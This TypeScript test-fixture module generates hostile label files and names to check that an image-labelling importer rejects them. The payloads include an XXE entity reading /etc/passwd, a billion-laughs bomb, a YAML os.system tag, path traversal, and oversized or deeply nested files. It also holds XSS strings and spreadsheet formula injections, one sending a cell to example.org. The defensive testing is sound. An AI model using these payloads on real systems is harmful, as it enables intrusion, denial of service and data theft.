/** Makers of hostile label files and data sets. */
import { closeSync, mkdirSync, openSync, truncateSync, writeFileSync, writeSync } from "node:fs";
import { execFileSync } from "node:child_process";
import { dirname, join } from "node:path";
import { pictureSize } from "./core.ts";

/** What is given as a label file or data set, and what comes of it: an error's code, or the reason of the rows left out. */
export interface HostileLabels {
  readonly format: string;
  /** Code of the job's error. */
  readonly code?: string;
  /** Beginning of the reason for which the first row was left out, where the file as a whole is none to refuse. */
  readonly reason?: RegExp;
  /** Writes it below a folder of its own and returns the path to give. */
  readonly make: (folder: string) => string;
}

/** One file of a name. */
const file =
  (name: string, content: string | Uint8Array) =>
  (folder: string): string => {
    writeFileSync(join(folder, name), content);
    return join(folder, name);
  };

/** Files by path, given as a folder. */
const files =
  (contents: Readonly<Record<string, string | Uint8Array>>) =>
  (folder: string): string => {
    for (const [path, content] of Object.entries(contents)) {
      mkdirSync(dirname(join(folder, path)), { recursive: true });
      writeFileSync(join(folder, path), content);
    }
    return folder;
  };

/** A file of a size that takes no room. */
const sparse =
  (name: string, start: string, size: number) =>
  (folder: string): string => {
    const handle = openSync(join(folder, name), "w");
    writeSync(handle, start);
    closeSync(handle);
    truncateSync(join(folder, name), size);
    return join(folder, name);
  };

const pipe =
  (name: string) =>
  (folder: string): string => {
    execFileSync("mkfifo", [join(folder, name)]);
    return join(folder, name);
  };

const { width, height } = pictureSize;
const area = width * height;

/** A COCO file about the first picture, with one segmentation as JSON text, or several. */
function coco(...segmentations: readonly string[]): string {
  const annotations = segmentations.map(
    (text, id) => `{"id":${id},"image_id":1,"category_id":1,"segmentation":${text}}`,
  );
  return (
    `{"images":[{"id":1,"file_name":"000.jpg","width":${width},"height":${height}}],` +
    `"categories":[{"id":1,"name":"Oat"}],"annotations":[${annotations.join(",")}]}`
  );
}

/** A polygon of so many corners, up and down all the time. */
const zigzag = (corners: number): string =>
  `[[${Array.from({ length: corners }, (_, i) => `${i % width},${(i % 2) * height}`).join(",")}]]`;

const laughs = (): string => {
  const entities = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`);
  const type = `<!DOCTYPE annotation [<!ENTITY l0 "ha">${entities.join("")}]>`;
  return `${type}<annotation><filename>000.jpg</filename><object><name>&l9;</name></object></annotation>`;
};

const voc = (annotation: string) => files({ "Annotations/000.xml": annotation });

const yolo = (names: string, line: string) =>
  files({ "data.yaml": names, "images/000.jpg": "x", "labels/000.txt": line });

export function hostileLabels(): Readonly<Record<string, HostileLabels>> {
  const row = (name: string) => `path,label\n000.jpg,${name}\n`;
  return {
    "a CSV of 1 GB": { format: "csv", code: "labels-file-too-large", make: sparse("a.csv", row("Oat"), 2 ** 30) },
    "a CSV of 200 MB of NUL": {
      format: "csv",
      reason: /too long/,
      make: sparse("a.csv", "path,label\n", 200 * 2 ** 20),
    },
    "a CSV of 50,000 rows for one image, the last of them wrong": {
      format: "csv",
      reason: /No image of the library/,
      make: file("a.csv", `path,label,coarse\n${"000.jpg,Oat,Drinks\n".repeat(50_000)}gone.jpg,Oat,Drinks\n`),
    },
    "a CSV with a NUL": { format: "csv", reason: /control character/, make: file("a.csv", row("O\0at")) },
    "a CSV with an escape sequence": {
      format: "csv",
      reason: /control character/,
      make: file("a.csv", row("\x1b[2JOat")),
    },
    "a CSV with a path out of the source": {
      format: "csv",
      reason: /No image of the library/,
      make: file("a.csv", "path,label\n../../../etc/passwd,Oat\n/etc/passwd,Oat\n..\\..\\000.jpg,Oat\n"),
    },
    "a CSV without columns": { format: "csv", code: "labels-file-header", make: file("a.csv", "\0\0\0\0") },
    "a CSV that is a pipe": { format: "csv", code: "labels-file-unreadable", make: pipe("a.csv") },
    "JSON Lines with one line of 200 MB": {
      format: "jsonl",
      reason: /too long/,
      make: sparse("a.jsonl", `{"path":"000.jpg","label":"`, 200 * 2 ** 20),
    },
    "JSON Lines nested 30,000 deep": {
      format: "jsonl",
      reason: /Expected a path as text/,
      make: file("a.jsonl", `{"path":${"[".repeat(30_000)}${"]".repeat(30_000)},"label":"Oat"}\n`),
    },
    "COCO nested a million deep": {
      format: "coco",
      code: "import-too-large",
      make: file("a.json", `{"images":${"[".repeat(1_000_000)}`),
    },
    "COCO of nine million empty objects": {
      format: "coco",
      code: "import-too-large",
      make: file("a.json", `{"images":[${"{},".repeat(9_000_000)}{}]}`),
    },
    "COCO of 1 GB": { format: "coco", code: "import-unreadable", make: sparse("a.json", "{", 2 ** 30) },
    "COCO that is a pipe": { format: "coco", code: "import-unreadable", make: pipe("a.json") },
    "COCO with a polygon of a million corners": {
      format: "coco",
      reason: /cross the rows of the picture more than/,
      make: file("a.json", coco(zigzag(1_000_000))),
    },
    "COCO with 3,000 masks on one picture": {
      format: "coco",
      reason: /3000 shapes/,
      make: file(
        "a.json",
        coco(...Array.from({ length: 3000 }, () => `{"size":[${height},${width}],"counts":[0,${area}]}`)),
      ),
    },
    "COCO with runs beyond the picture": {
      format: "coco",
      reason: /must add up to/,
      make: file("a.json", coco(`{"size":[${height},${width}],"counts":[${area},${area}]}`)),
    },
    "COCO with runs of ten million characters": {
      format: "coco",
      reason: /more runs than pixels/,
      make: file("a.json", coco(`{"size":[${height},${width}],"counts":"${"0".repeat(10_000_000)}"}`)),
    },
    "COCO with a mask of another size": {
      format: "coco",
      reason: /its mask \[height, width\]/,
      make: file("a.json", coco(`{"size":[100000,100000],"counts":[10000000000]}`)),
    },
    "YOLO with NaN": { format: "yolo", reason: /pairs of shares/, make: yolo("names: [Oat]", "0 nan nan nan nan") },
    "YOLO with infinity": {
      format: "yolo",
      reason: /pairs of shares/,
      make: yolo("names: [Oat]", "0 1e999 0 1 1 0 1"),
    },
    "YOLO with a tag that makes an object": {
      format: "yolo",
      reason: /names a class that data.yaml has not/,
      make: yolo("names:\n  0: !!python/object/apply:os.system [id]\n", "1 0.5 0.5 1 1"),
    },
    "VOC with a billion laughs": { format: "voc", reason: /cannot be read from there/, make: voc(laughs()) },
    "VOC with an external entity": {
      format: "voc",
      reason: /cannot be read from there/,
      make: voc(
        `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><annotation><object><name>&x;</name></object></annotation>`,
      ),
    },
    "VOC with an entity that nobody declared": {
      format: "voc",
      reason: /unknown entity &x/,
      make: voc("<annotation><object><name>&x;</name></object></annotation>"),
    },
    "VOC of 64 MB": {
      format: "voc",
      reason: /16777216 are read at most/,
      make: (folder) => {
        mkdirSync(join(folder, "Annotations"));
        sparse("Annotations/000.xml", "<annotation>", 2 ** 26)(folder);
        return folder;
      },
    },
    "a folder of class folders without pictures": {
      format: "folders",
      code: "import-format",
      make: files({ "../leaves/a.txt": "x" }),
    },
    "a data set that is not there": { format: "voc", code: "path-missing", make: (folder) => join(folder, "gone") },
    "a data set outside the roots": { format: "voc", code: "path-outside", make: () => "/etc" },
    "a format that nobody knows": { format: "../coco", code: "option-invalid", make: files({}) },
  };
}

/** Names of labels that are programs for some reader: pages, spreadsheets, terminals, JavaScript. */
export const hostileNames: readonly string[] = [
  `<script>document.body.dataset.executed = "yes"</script>`,
  `<img src=x onerror="document.body.dataset.executed = 'yes'">`,
  `{@html "<b>run</b>"} {{constructor.constructor("run")()}}`,
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://example.org/?"&A1,"Oat")`,
  "+1+1",
  "-2+3",
  "@SUM(1+1)",
  `'=1+1`,
  "__proto__",
  "constructor",
  "javascript:alert(1)",
  "../../../etc",
  "\u202egnp.tao",
];
